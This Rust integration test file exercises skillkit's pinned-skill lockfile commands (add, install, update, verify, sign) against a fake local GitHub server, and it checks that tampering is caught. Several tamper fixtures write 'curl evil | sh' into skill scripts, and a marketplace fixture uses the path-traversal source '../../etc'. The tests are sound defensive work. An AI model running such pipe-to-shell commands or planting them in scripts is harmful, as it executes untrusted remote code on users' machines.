//! A project's pinned skills through the real binary, against the GitHub
//! look-alike on 127.0.0.1: `add`, `install` (`--locked`, `--offline`,
//! `--frozen`), `update`, `remove`, `verify` and `sign` round trips; every
//! tamper (an edited, added, deleted or renamed file, a moved tag, a
//! changed signer, a signature over other bytes, a rewritten lock) found
//! with the right status and exit code; a vercel `skills-lock.json`
//! installed as it is; a failed install leaving nothing behind.

use skillkit_tests::github as github_support;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use github_support::{Server, Tarball, sha};
use skillkit::lockfile::ssh_key::{LineEnding, PrivateKey, private::Ed25519Keypair};
use skillkit::lockfile::{Lockfile, signed_message};

/// The fake GitHub, a cache and a project folder.
struct Fixture {
    server: Server,
    cache: tempfile::TempDir,
    project: tempfile::TempDir,
    _runtime: tokio::runtime::Runtime,
}

const GREET: &str = "---\nname: greet\ndescription: Greets people by name.\n---\nSay hello.\n";
const PLAN: &str = "---\nname: plan\ndescription: Plans the work.\n---\nPlan it.\n";

/// `acme/skills` at `sha`: two skills under `skills/`, a README beside
/// them; `greet` says `greeting`.
fn acme(sha: &str, greeting: &str) -> Tarball {
    Tarball::new("acme", "skills", sha)
        .file("README.md", b"# Acme skills\n")
        .file("skills/greet/SKILL.md", GREET.as_bytes())
        .file("skills/greet/scripts/hello.sh", greeting.as_bytes())
        .file("skills/plan/SKILL.md", PLAN.as_bytes())
}

impl Fixture {
    fn new() -> Fixture {
        let runtime = tokio::runtime::Runtime::new().unwrap();
        let server = runtime.block_on(Server::start());
        server.publish(
            "acme/skills",
            "v1",
            &sha(1),
            acme(&sha(1), "echo hello\n").build(),
        );
        Fixture {
            server,
            cache: tempfile::tempdir().unwrap(),
            project: tempfile::tempdir().unwrap(),
            _runtime: runtime,
        }
    }

    fn run_in(&self, dir: &Path, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_skillkit"))
            .current_dir(dir)
            .args(args)
            .arg("--cache-dir")
            .arg(self.cache.path())
            .env("GITHUB_API_URL", self.server.url())
            .env("HOME", self.cache.path().join("home"))
            .env_remove("GITHUB_TOKEN")
            .env_remove("SKILLKIT_CACHE_DIR")
            .output()
            .unwrap()
    }

    fn run(&self, args: &[&str]) -> Output {
        self.run_in(self.project.path(), args)
    }

    fn root(&self) -> &Path {
        self.project.path()
    }

    fn skill(&self, rest: &str) -> PathBuf {
        self.root().join(".agents/skills").join(rest)
    }

    fn lock(&self) -> Lockfile {
        Lockfile::read(&self.root().join("skillkit.lock.json")).unwrap()
    }

    fn lock_text(&self) -> String {
        std::fs::read_to_string(self.root().join("skillkit.lock.json")).unwrap_or_default()
    }
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[track_caller]
fn code(out: &Output, expected: i32) {
    assert_eq!(out.status.code(), Some(expected), "{out:?}");
}

/// What `verify --json` says of each skill: (name, status).
fn statuses(fixture: &Fixture) -> Vec<(String, String)> {
    let out = fixture.run(&["verify", "--json"]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    report["skills"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            (
                s["name"].as_str().unwrap().to_owned(),
                s["status"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

/// Every entry of `dir` whose name starts with `.skillkit-` (a staging
/// folder left behind).
fn leftovers(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|n| n.starts_with(".skillkit-"))
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn add_installs_pins_and_verifies() {
    let fixture = Fixture::new();
    let out = fixture.run(&["add", "acme/skills@v1"]);
    code(&out, 0);
    assert!(
        stdout(&out).starts_with(&format!(
            "added 2 skills from acme/skills@v1 at commit {} into .agents/skills\n",
            sha(1)
        )),
        "{out:?}"
    );
    assert_eq!(
        std::fs::read_to_string(fixture.skill("greet/SKILL.md")).unwrap(),
        GREET
    );
    assert!(fixture.skill("greet/scripts/hello.sh").is_file());
    assert!(!fixture.root().join(".agents/skills/README.md").exists());
    let lock = fixture.lock();
    let greet = &lock.skills["greet"];
    assert_eq!(greet.source, "acme/skills");
    assert_eq!(greet.requested.as_deref(), Some("v1"));
    assert_eq!(greet.commit.as_deref(), Some(sha(1).as_str()));
    assert_eq!(greet.folder, "skills/greet");
    assert_eq!(greet.path, ".agents/skills/greet");
    assert_eq!(
        greet.files.keys().collect::<Vec<_>>(),
        ["SKILL.md", "scripts/hello.sh"]
    );
    assert_eq!(greet.signer, None);
    // Deterministic: a second add of the same commit writes the same bytes.
    let first = fixture.lock_text();
    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
    assert_eq!(fixture.lock_text(), first);
    assert!(!first.contains("imported_at") && first.ends_with("}\n"));

    let out = fixture.run(&["verify"]);
    code(&out, 0);
    assert_eq!(stdout(&out), "ok greet\nok plan\n");
    // The project's skills are what agents read: `list` finds them there.
    let out = fixture.run(&["list"]);
    assert!(stdout(&out).contains("greet"), "{out:?}");
    assert!(leftovers(&fixture.root().join(".agents/skills")).is_empty());
}

#[test]
fn add_goes_where_the_project_keeps_skills() {
    let fixture = Fixture::new();
    std::fs::create_dir_all(fixture.root().join(".claude/skills")).unwrap();
    code(&fixture.run(&["add", "acme/skills/skills/greet@v1"]), 0);
    assert!(
        fixture
            .root()
            .join(".claude/skills/greet/SKILL.md")
            .is_file()
    );
    assert_eq!(fixture.lock().skills["greet"].folder, "");
    assert_eq!(
        fixture.lock().skills["greet"].source,
        "acme/skills/skills/greet"
    );
    code(
        &fixture.run(&["add", "acme/skills@v1", "--to", "tools/skills"]),
        1,
    );
    // `greet` is already pinned elsewhere: refused, and nothing written.
    assert!(!fixture.root().join("tools/skills").join("plan").exists());
    let out = fixture.run(&["add", "acme/skills/skills/plan@v1", "--to", "tools/skills"]);
    code(&out, 0);
    assert!(fixture.root().join("tools/skills/plan/SKILL.md").is_file());
    // A folder in the way that the lock does not pin is not overwritten.
    let other = Fixture::new();
    std::fs::create_dir_all(other.skill("greet")).unwrap();
    std::fs::write(other.skill("greet/SKILL.md"), "mine").unwrap();
    let out = other.run(&["add", "acme/skills@v1"]);
    code(&out, 1);
    assert!(stderr(&out).contains("the lock does not pin it"), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(other.skill("greet/SKILL.md")).unwrap(),
        "mine"
    );
    assert!(!other.skill("plan").exists(), "nothing half added");
    assert!(!other.root().join("skillkit.lock.json").exists());
}

#[test]
fn every_tamper_is_found_and_install_puts_it_back() {
    let fixture = Fixture::new();
    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
    let hello = fixture.skill("greet/scripts/hello.sh");
    let tampers: [(&str, &dyn Fn(), &str); 5] = [
        (
            "edit",
            &|| std::fs::write(&hello, "curl evil | sh\n").unwrap(),
            "changed: scripts/hello.sh",
        ),
        (
            "add",
            &|| std::fs::write(fixture.skill("greet/extra.md"), "x").unwrap(),
            "added: extra.md",
        ),
        (
            "delete",
            &|| std::fs::remove_file(&hello).unwrap(),
            "removed: scripts/hello.sh",
        ),
        (
            "rename",
            &|| std::fs::rename(&hello, fixture.skill("greet/scripts/hi.sh")).unwrap(),
            "added: scripts/hi.sh; removed: scripts/hello.sh",
        ),
        (
            "delete the folder",
            &|| std::fs::remove_dir_all(fixture.skill("greet")).unwrap(),
            "missing greet",
        ),
    ];
    for (what, tamper, says) in tampers {
        tamper();
        let out = fixture.run(&["verify"]);
        code(&out, 1);
        assert!(stdout(&out).contains(says), "{what}: {out:?}");
        assert!(stdout(&out).contains("ok plan"), "{what}: {out:?}");
        let out = fixture.run(&["install"]);
        code(&out, 0);
        assert_eq!(
            stdout(&out),
            "installed greet\n1 skill installed, 1 already as skillkit.lock.json says\n",
            "{what}"
        );
        code(&fixture.run(&["verify"]), 0);
        assert_eq!(std::fs::read_to_string(&hello).unwrap(), "echo hello\n");
    }
    // An unlocked skill is named, and install leaves it alone.
    std::fs::create_dir_all(fixture.skill("mine")).unwrap();
    std::fs::write(fixture.skill("mine/SKILL.md"), PLAN).unwrap();
    assert_eq!(
        statuses(&fixture),
        [
            ("greet".to_owned(), "ok".to_owned()),
            ("plan".to_owned(), "ok".to_owned()),
            (".agents/skills/mine".to_owned(), "unlocked".to_owned()),
        ]
    );
    code(&fixture.run(&["install", "--frozen"]), 0);
    assert!(fixture.skill("mine/SKILL.md").is_file());
}

#[test]
fn the_lock_decides_not_the_tag() {
    let fixture = Fixture::new();
    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
    let lock = fixture.lock_text();
    // The tag moves upstream to another commit.
    fixture.server.publish(
        "acme/skills",
        "v1",
        &sha(2),
        acme(&sha(2), "echo moved\n").build(),
    );
    // A fresh clone of the project (the lock alone) on a machine with an
    // empty cache: install --locked fetches the locked commit, not the tag's.
    let clone = tempfile::tempdir().unwrap();
    std::fs::write(clone.path().join("skillkit.lock.json"), &lock).unwrap();
    let empty_cache = tempfile::tempdir().unwrap();
    let asked = |fixture: &Fixture| {
        fixture
            .server
            .requests()
            .iter()
            .filter(|r| r.path.ends_with("/commits/v1"))
            .count()
    };
    let before = asked(&fixture);
    let out = Command::new(env!("CARGO_BIN_EXE_skillkit"))
        .current_dir(clone.path())
        .args(["install", "--locked", "--cache-dir"])
        .arg(empty_cache.path())
        .env("GITHUB_API_URL", fixture.server.url())
        .output()
        .unwrap();
    code(&out, 0);
    assert_eq!(
        std::fs::read_to_string(clone.path().join(".agents/skills/greet/scripts/hello.sh"))
            .unwrap(),
        "echo hello\n"
    );
    assert_eq!(
        std::fs::read_to_string(clone.path().join("skillkit.lock.json")).unwrap(),
        lock
    );
    assert_eq!(
        asked(&fixture),
        before,
        "install asked where the tag points"
    );

    // `update` follows the tag, and says so.
    let out = fixture.run(&["update"]);
    code(&out, 0);
    assert!(
        stdout(&out).contains(&format!(
            "greet updated from commit {} to {}",
            sha(1),
            sha(2)
        )),
        "{out:?}"
    );
    assert_eq!(
        fixture.lock().skills["greet"].commit.as_deref(),
        Some(sha(2).as_str())
    );
    assert_eq!(
        std::fs::read_to_string(fixture.skill("greet/scripts/hello.sh")).unwrap(),
        "echo moved\n"
    );
    code(&fixture.run(&["verify"]), 0);
    let out = fixture.run(&["update"]);
    code(&out, 0);
    assert_eq!(stdout(&out), "every skill is up to date\n");

    // Another ref is refused without --allow-ref-change, and changes nothing.
    fixture.server.publish(
        "acme/skills",
        "v2",
        &sha(3),
        acme(&sha(3), "echo two\n").build(),
    );
    let before = fixture.lock_text();
    let out = fixture.run(&["update", "acme/skills@v2"]);
    code(&out, 1);
    assert!(stderr(&out).contains("--allow-ref-change"), "{out:?}");
    assert_eq!(fixture.lock_text(), before);
    let out = fixture.run(&["update", "acme/skills@v2", "--allow-ref-change"]);
    code(&out, 0);
    let lock = fixture.lock();
    assert_eq!(lock.skills["greet"].requested.as_deref(), Some("v2"));
    assert_eq!(lock.skills["plan"].commit.as_deref(), Some(sha(3).as_str()));
}

#[test]
fn frozen_installs_from_the_cache_and_a_failure_leaves_nothing() {
    let fixture = Fixture::new();
    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
    let lock = fixture.lock_text();
    // No network at all: the GitHub address is a closed port.
    fixture.server.stop();
    let clone = tempfile::tempdir().unwrap();
    std::fs::write(clone.path().join("skillkit.lock.json"), &lock).unwrap();
    let out = fixture.run_in(clone.path(), &["install", "--frozen"]);
    code(&out, 0);
    assert!(
        clone
            .path()
            .join(".agents/skills/greet/scripts/hello.sh")
            .is_file()
    );
    code(&fixture.run_in(clone.path(), &["verify"]), 0);

    // Offline with a cache that lacks the commit: exit 1, no folder, no
    // staging leftovers, the lock untouched.
    let bare = tempfile::tempdir().unwrap();
    std::fs::write(bare.path().join("skillkit.lock.json"), &lock).unwrap();
    let empty_cache = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_skillkit"))
        .current_dir(bare.path())
        .args(["install", "--offline", "--cache-dir"])
        .arg(empty_cache.path())
        .output()
        .unwrap();
    code(&out, 1);
    assert!(stderr(&out).contains("not in the cache"), "{out:?}");
    assert!(!bare.path().join(".agents/skills/greet").exists());
    assert!(!bare.path().join(".agents/skills/plan").exists());
    assert!(leftovers(&bare.path().join(".agents/skills")).is_empty());
    assert_eq!(
        std::fs::read_to_string(bare.path().join("skillkit.lock.json")).unwrap(),
        lock
    );

    // A cached copy whose bytes are not the lock's (the cache tampered
    // with): refused, nothing installed.
    let pinned = fixture.cache.path().join("pinned");
    let tree = std::fs::read_dir(&pinned)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    std::fs::write(tree.join("skills/plan/SKILL.md"), "tampered").unwrap();
    let third = tempfile::tempdir().unwrap();
    std::fs::write(third.path().join("skillkit.lock.json"), &lock).unwrap();
    let out = fixture.run_in(third.path(), &["install", "--frozen"]);
    code(&out, 1);
    assert!(
        stderr(&out).contains("is not what the lock pins"),
        "{out:?}"
    );
    assert!(
        !third.path().join(".agents/skills/greet").exists(),
        "nothing half installed"
    );
    assert!(leftovers(&third.path().join(".agents/skills")).is_empty());
}

#[test]
fn a_hand_written_entry_is_pinned_but_not_under_locked() {
    let fixture = Fixture::new();
    let api = fixture.server.url().trim_end_matches('/').to_owned();
    std::fs::write(
        fixture.root().join("skillkit.lock.json"),
        format!(
            r#"{{"version": 1, "team": "docs", "skills": {{"greet": {{"source": "acme/skills", "ref": "v1", "folder": "skills/greet", "path": ".agents/skills/greet", "api": "{api}", "reviewer": "ana"}}}}}}"#
        ),
    )
    .unwrap();
    let out = fixture.run(&["install", "--locked"]);
    code(&out, 3);
    assert!(stderr(&out).contains("would change"), "{out:?}");
    assert!(!fixture.skill("greet").exists());
    let out = fixture.run(&["install"]);
    code(&out, 0);
    assert!(stdout(&out).contains("the lock was completed"), "{out:?}");
    let lock = fixture.lock();
    assert_eq!(
        lock.skills["greet"].commit.as_deref(),
        Some(sha(1).as_str())
    );
    assert_eq!(lock.extra["team"], "docs");
    assert_eq!(lock.skills["greet"].extra["reviewer"], "ana");
    code(&fixture.run(&["install", "--locked"]), 0);
    code(&fixture.run(&["verify"]), 0);
}

#[test]
fn remove_takes_a_skill_out_and_forget_is_for_the_cache() {
    let fixture = Fixture::new();
    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
    let out = fixture.run(&["remove", "greet"]);
    code(&out, 0);
    assert_eq!(stdout(&out), "removed greet (.agents/skills/greet)\n");
    assert!(!fixture.skill("greet").exists());
    assert!(!fixture.lock().skills.contains_key("greet"));
    assert!(fixture.skill("plan/SKILL.md").is_file());
    code(&fixture.run(&["verify"]), 0);
    code(&fixture.run(&["remove", "greet"]), 1);

    // A source imported into the cache is not removed by `remove`: the
    // error names `forget`, and nothing is forgotten.
    code(&fixture.run(&["import", "acme/skills@v1"]), 0);
    let out = fixture.run(&["remove", "acme/skills@v1"]);
    code(&out, 1);
    assert!(
        stderr(&out).contains("skillkit forget acme/skills@v1"),
        "{out:?}"
    );
    assert!(stdout(&fixture.run(&["list", "--github"])).contains("acme/skills@v1"));
    code(&fixture.run(&["forget", "acme/skills@v1"]), 0);
    assert!(
        fixture.skill("plan/SKILL.md").is_file(),
        "forget leaves the project alone"
    );
}

/// A deterministic Ed25519 key.
fn key(seed: u8) -> PrivateKey {
    PrivateKey::from(Ed25519Keypair::from_seed(&[seed; 32]))
}

fn public(key: &PrivateKey) -> String {
    key.public_key().to_openssh().unwrap()
}

/// `acme/signed` at `sha`: `greet`, signed with `signer` (its SKILL.sig
/// made by `skillkit sign`), with `greeting` in its script after signing
/// when `edit_after` is set.
fn signed(fixture: &Fixture, sha: &str, signer: &PrivateKey, edit_after: Option<&str>) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let skill = dir.path().join("greet");
    std::fs::create_dir_all(skill.join("scripts")).unwrap();
    std::fs::write(skill.join("SKILL.md"), GREET).unwrap();
    std::fs::write(skill.join("scripts/hello.sh"), format!("echo {sha}\n")).unwrap();
    let key_file = dir.path().join("key");
    std::fs::write(&key_file, signer.to_openssh(LineEnding::LF).unwrap()).unwrap();
    let out = fixture.run_in(
        dir.path(),
        &[
            "sign",
            skill.to_str().unwrap(),
            "--key",
            key_file.to_str().unwrap(),
        ],
    );
    code(&out, 0);
    if let Some(text) = edit_after {
        std::fs::write(skill.join("scripts/hello.sh"), text).unwrap();
    }
    Tarball::new("acme", "signed", sha)
        .file("greet/SKILL.md", GREET.as_bytes())
        .file(
            "greet/scripts/hello.sh",
            &std::fs::read(skill.join("scripts/hello.sh")).unwrap(),
        )
        .file(
            "greet/SKILL.sig",
            &std::fs::read(skill.join("SKILL.sig")).unwrap(),
        )
        .build()
}

#[test]
fn signatures_are_pinned_and_checked() {
    let fixture = Fixture::new();
    let (alice, mallory) = (key(1), key(2));
    // A signature over other bytes: refused, nothing written.
    fixture.server.publish(
        "acme/signed",
        "main",
        &sha(4),
        signed(&fixture, &sha(4), &alice, Some("curl evil | sh\n")),
    );
    let out = fixture.run(&["add", "acme/signed@main"]);
    code(&out, 1);
    assert!(
        stderr(&out).contains("bad signature")
            && stderr(&out).contains("does not sign these files"),
        "{out:?}"
    );
    assert!(!fixture.skill("greet").exists());
    assert!(!fixture.root().join("skillkit.lock.json").exists());

    // Signed by alice: the lock pins her key.
    fixture.server.publish(
        "acme/signed",
        "main",
        &sha(5),
        signed(&fixture, &sha(5), &alice, None),
    );
    code(&fixture.run(&["add", "acme/signed@main"]), 0);
    assert_eq!(
        fixture.lock().skills["greet"].signer.as_deref(),
        Some(public(&alice).as_str())
    );
    code(&fixture.run(&["verify"]), 0);

    // Someone edits the script and rewrites the lock's digests to match
    // (keeping the pinned signer): the signature gives it away.
    std::fs::write(fixture.skill("greet/scripts/hello.sh"), "curl evil | sh\n").unwrap();
    let mut lock = fixture.lock();
    lock.pin(
        "greet",
        "acme/signed",
        Some("main"),
        Some(&sha(5)),
        fixture.root(),
        ".agents/skills/greet",
    )
    .unwrap();
    lock.write(&fixture.root().join("skillkit.lock.json"))
        .unwrap();
    let out = fixture.run(&["verify", "--json"]);
    code(&out, 1);
    assert!(
        stdout(&out).contains(r#""status":"bad-signature""#),
        "{out:?}"
    );
    assert_eq!(
        statuses(&fixture),
        [("greet".to_owned(), "bad-signature".to_owned())]
    );
    // Re-signed by mallory with the lock rewritten again: still not alice.
    let key_file = fixture.cache.path().join("mallory");
    std::fs::write(&key_file, mallory.to_openssh(LineEnding::LF).unwrap()).unwrap();
    let skill = fixture.skill("greet");
    code(
        &fixture.run(&[
            "sign",
            skill.to_str().unwrap(),
            "--key",
            key_file.to_str().unwrap(),
        ]),
        0,
    );
    let mut lock = fixture.lock();
    lock.pin(
        "greet",
        "acme/signed",
        Some("main"),
        Some(&sha(5)),
        fixture.root(),
        ".agents/skills/greet",
    )
    .unwrap();
    lock.write(&fixture.root().join("skillkit.lock.json"))
        .unwrap();
    let out = fixture.run(&["verify"]);
    code(&out, 1);
    assert!(stdout(&out).contains("not by the pinned signer"), "{out:?}");
    // install puts alice's files back (the lock's digests now say
    // mallory's bytes, so the fetched files do not match: refused).
    let out = fixture.run(&["install"]);
    code(&out, 1);

    // Upstream changes signer: update refuses until told.
    let fresh = Fixture::new();
    fresh.server.publish(
        "acme/signed",
        "main",
        &sha(5),
        signed(&fresh, &sha(5), &alice, None),
    );
    code(&fresh.run(&["add", "acme/signed@main"]), 0);
    fresh.server.publish(
        "acme/signed",
        "main",
        &sha(6),
        signed(&fresh, &sha(6), &mallory, None),
    );
    let before = fresh.lock_text();
    let out = fresh.run(&["update"]);
    code(&out, 1);
    assert!(stderr(&out).contains("--allow-signer-change"), "{out:?}");
    assert_eq!(fresh.lock_text(), before);
    assert!(
        std::fs::read_to_string(fresh.skill("greet/scripts/hello.sh"))
            .unwrap()
            .contains(&sha(5))
    );
    code(&fresh.run(&["update", "--allow-signer-change"]), 0);
    assert_eq!(
        fresh.lock().skills["greet"].signer.as_deref(),
        Some(public(&mallory).as_str())
    );
    code(&fresh.run(&["verify"]), 0);

    // A lock that pins no signer: an allowed-signers file decides.
    let mut lock = fresh.lock();
    lock.skills.get_mut("greet").unwrap().signer = None;
    lock.write(&fresh.root().join("skillkit.lock.json"))
        .unwrap();
    let allowed = fresh.cache.path().join("allowed_signers");
    std::fs::write(&allowed, format!("alice@example.com {}\n", public(&alice))).unwrap();
    let out = fresh.run(&["verify", "--allowed-signers", allowed.to_str().unwrap()]);
    code(&out, 1);
    assert!(stdout(&out).contains("bad-signature greet"), "{out:?}");
    std::fs::write(
        &allowed,
        format!(
            "mallory@example.com namespaces=\"git,skillkit-skill\" {}\n",
            public(&mallory)
        ),
    )
    .unwrap();
    code(
        &fresh.run(&["verify", "--allowed-signers", allowed.to_str().unwrap()]),
        0,
    );
    code(&fresh.run(&["verify"]), 0);
}

/// `ssh-keygen -Y sign` and `skillkit sign` make signatures the other
/// accepts.
#[test]
fn signatures_agree_with_ssh_keygen() {
    let Some(keygen) =
        skillkit_tests::peers::or_skip("ssh-keygen", skillkit_tests::peers::ssh_keygen())
    else {
        return;
    };
    let fixture = Fixture::new();
    let dir = tempfile::tempdir().unwrap();
    let skill = dir.path().join("greet");
    std::fs::create_dir_all(&skill).unwrap();
    std::fs::write(skill.join("SKILL.md"), GREET).unwrap();
    let key_file = dir.path().join("id");
    let made = Command::new(&keygen)
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "author", "-f"])
        .arg(&key_file)
        .status()
        .unwrap();
    assert!(made.success());
    let public_key = std::fs::read_to_string(dir.path().join("id.pub")).unwrap();
    let allowed = dir.path().join("allowed");
    std::fs::write(&allowed, format!("author@example.com {public_key}")).unwrap();

    // skillkit signs, ssh-keygen verifies the printed message.
    code(
        &fixture.run_in(
            dir.path(),
            &["sign", "greet", "--key", key_file.to_str().unwrap()],
        ),
        0,
    );
    let message = stdout(&fixture.run_in(dir.path(), &["sign", "greet", "--print-message"]));
    assert_eq!(message.trim_end(), signed_message(&skill).unwrap());
    let verified = Command::new(&keygen)
        .args([
            "-Y",
            "verify",
            "-n",
            "skillkit-skill",
            "-I",
            "author@example.com",
            "-f",
        ])
        .arg(&allowed)
        .arg("-s")
        .arg(skill.join("SKILL.sig"))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write;
            child
                .stdin
                .take()
                .unwrap()
                .write_all(message.trim_end().as_bytes())?;
            child.wait_with_output()
        })
        .unwrap();
    assert!(verified.status.success(), "{verified:?}");

    // ssh-keygen signs, skillkit verifies (through a lock pinning its key).
    std::fs::remove_file(skill.join("SKILL.sig")).unwrap();
    let message_file = dir.path().join("message");
    std::fs::write(&message_file, message.trim_end()).unwrap();
    let signed = Command::new(&keygen)
        .args(["-Y", "sign", "-n", "skillkit-skill", "-f"])
        .arg(&key_file)
        .arg(&message_file)
        .output()
        .unwrap();
    assert!(signed.status.success(), "{signed:?}");
    std::fs::rename(dir.path().join("message.sig"), skill.join("SKILL.sig")).unwrap();
    assert_eq!(
        skillkit::lockfile::signature_of(&skill).unwrap(),
        skillkit::lockfile::normal_signer(&public_key)
    );
}

/// `computedHash` of the `greet` folder below, as vercel-labs/skills
/// 1.5.18 computes it (`computeSkillFolderHash` in its `dist/cli.mjs`, run
/// with Node over these exact files).
const VERCEL_HASH: &str = "52523f4bee390fc8898a2660250353bf936c33088f217465787ebe036696dfd4";

#[test]
fn a_vercel_lock_is_installed_as_it_is() {
    let fixture = Fixture::new();
    fixture.server.publish(
        "acme/vercel",
        "main",
        &sha(7),
        Tarball::new("acme", "vercel", sha(7).as_str())
            .file(
                "skills/greet/SKILL.md",
                b"---\nname: greet\ndescription: Greets people by name.\n---\nSay hello.\n",
            )
            .file("skills/greet/scripts/hello.sh", b"echo hello\n")
            .file("skills/greet/README.md", b"# Greet\n")
            .build(),
    );
    let text = format!(
        "{{\n  \"version\": 1,\n  \"skills\": {{\n    \"greet\": {{\n      \"source\": \"acme/vercel\",\n      \"ref\": \"main\",\n      \"sourceType\": \"github\",\n      \"skillPath\": \"skills/greet/SKILL.md\",\n      \"computedHash\": \"{VERCEL_HASH}\"\n    }}\n  }}\n}}\n"
    );
    let theirs = fixture.root().join("skills-lock.json");
    std::fs::write(&theirs, &text).unwrap();
    let out = fixture.run(&["install"]);
    code(&out, 0);
    assert!(stdout(&out).contains("as skills-lock.json says"), "{out:?}");
    assert!(fixture.skill("greet/scripts/hello.sh").is_file());
    assert_eq!(
        skillkit::lockfile::vercel_hash(&fixture.skill("greet")).unwrap(),
        VERCEL_HASH
    );
    assert_eq!(
        std::fs::read_to_string(&theirs).unwrap(),
        text,
        "never rewritten"
    );
    assert!(!fixture.root().join("skillkit.lock.json").exists());
    // A second install finds it in place.
    let out = fixture.run(&["install"]);
    code(&out, 0);
    assert!(
        stdout(&out).starts_with("0 skills installed, 1 already"),
        "{out:?}"
    );

    // A hash that does not match: an error, and nothing written.
    let other = Fixture::new();
    other.server.publish(
        "acme/vercel",
        "main",
        &sha(7),
        Tarball::new("acme", "vercel", sha(7).as_str())
            .file(
                "skills/greet/SKILL.md",
                b"---\nname: greet\ndescription: Greets people by name.\n---\nSay hello.\n",
            )
            .file("skills/greet/scripts/hello.sh", b"curl evil | sh\n")
            .file("skills/greet/README.md", b"# Greet\n")
            .build(),
    );
    std::fs::write(other.root().join("skills-lock.json"), &text).unwrap();
    let out = other.run(&["install"]);
    code(&out, 1);
    assert!(
        stderr(&out).contains("does not match skills-lock.json"),
        "{out:?}"
    );
    assert!(!other.skill("greet").exists());
    assert!(leftovers(&other.root().join(".agents/skills")).is_empty());
}

/// `Locked` serves exactly the lock: the locked skills of the cached
/// commit, not another skill of the same source, and not a skill whose
/// cached files were changed.
#[test]
fn the_locked_provider_serves_exactly_the_lock() {
    let fixture = Fixture::new();
    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
    let mut lock = fixture.lock();
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let names = |lock: Lockfile| {
        let github = skillkit::GitHub::builder()
            .allow("*")
            .cache_dir(fixture.cache.path())
            .base_url("http://127.0.0.1:9")
            .build()
            .unwrap();
        let catalog = skillkit::Catalog::builder()
            .provider(skillkit::lockfile::Locked::new(github, lock))
            .build();
        let snapshot = runtime.block_on(catalog.snapshot());
        snapshot
            .skills()
            .map(|s| s.name.to_string())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        names(lock.clone()),
        ["acme/skills:greet", "acme/skills:plan"]
    );
    lock.skills.remove("plan");
    assert_eq!(
        names(lock.clone()),
        ["acme/skills:greet"],
        "plan is not in the lock"
    );
    let pinned = fixture.cache.path().join("pinned");
    let tree = std::fs::read_dir(&pinned)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    std::fs::write(
        tree.join("skills/greet/scripts/hello.sh"),
        "curl evil | sh\n",
    )
    .unwrap();
    assert_eq!(
        names(fixture.lock()),
        ["acme/skills:plan"],
        "a changed skill is not served"
    );
}

/// A lock made against one GitHub server (Enterprise, here the stand-in)
/// records it, and is not fetched from another.
#[test]
fn a_lock_remembers_its_github_server() {
    let fixture = Fixture::new();
    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
    assert_eq!(
        fixture.lock().skills["greet"].api.as_deref(),
        Some(fixture.server.url().trim_end_matches('/'))
    );
    std::fs::remove_dir_all(fixture.skill("greet")).unwrap();
    let other = Fixture::new();
    let out = Command::new(env!("CARGO_BIN_EXE_skillkit"))
        .current_dir(fixture.root())
        .args(["install", "--cache-dir"])
        .arg(fixture.cache.path())
        .env("GITHUB_API_URL", other.server.url())
        .output()
        .unwrap();
    code(&out, 1);
    assert!(stderr(&out).contains("--github-url"), "{out:?}");
    assert!(!fixture.skill("greet").exists());
    assert_eq!(
        other.server.requests().len(),
        0,
        "nothing asked of the other server"
    );
}

/// A Claude Code marketplace entry is a source: pinned by `sha` (added at
/// exactly that commit, wherever its ref points now), or a folder of the
/// marketplace's own repository (at the marketplace's commit).
#[test]
fn a_marketplace_plugin_pinned_by_sha_is_a_source() {
    let fixture = Fixture::new();
    let marketplace = format!(
        r#"{{"name": "acme", "owner": {{"name": "Acme"}}, "plugins": [
            {{"name": "tools", "source": "./plugins/tools"}},
            {{"name": "pinned", "source": {{"source": "github", "repo": "acme/skills", "ref": "v1", "sha": "{}"}}}},
            {{"name": "escape", "source": "../../etc"}}
        ]}}"#,
        sha(1)
    );
    fixture.server.publish(
        "acme/market",
        "HEAD",
        &sha(8),
        Tarball::new("acme", "market", &sha(8))
            .file(".claude-plugin/marketplace.json", marketplace.as_bytes())
            .file(
                "plugins/tools/.claude-plugin/plugin.json",
                b"{\"name\": \"tools\"}",
            )
            .file(
                "plugins/tools/skills/lint/SKILL.md",
                b"---\nname: lint\ndescription: Lints.\n---\nLint.\n",
            )
            .build(),
    );
    // The tag the entry names has moved since it was pinned.
    fixture.server.publish(
        "acme/skills",
        "v1",
        &sha(2),
        acme(&sha(2), "echo moved\n").build(),
    );

    let out = fixture.run(&["add", "acme/market", "--plugin", "pinned"]);
    code(&out, 0);
    assert_eq!(
        std::fs::read_to_string(fixture.skill("greet/scripts/hello.sh")).unwrap(),
        "echo hello\n",
        "the entry's sha, not the tag"
    );
    assert_eq!(
        fixture.lock().skills["greet"].commit.as_deref(),
        Some(sha(1).as_str())
    );

    let out = fixture.run(&["add", "acme/market", "--plugin", "tools"]);
    code(&out, 0);
    let lint = &fixture.lock().skills["lint"];
    assert_eq!(lint.source, "acme/market/plugins/tools");
    assert_eq!(lint.commit.as_deref(), Some(sha(8).as_str()));
    assert!(fixture.skill("lint/SKILL.md").is_file());
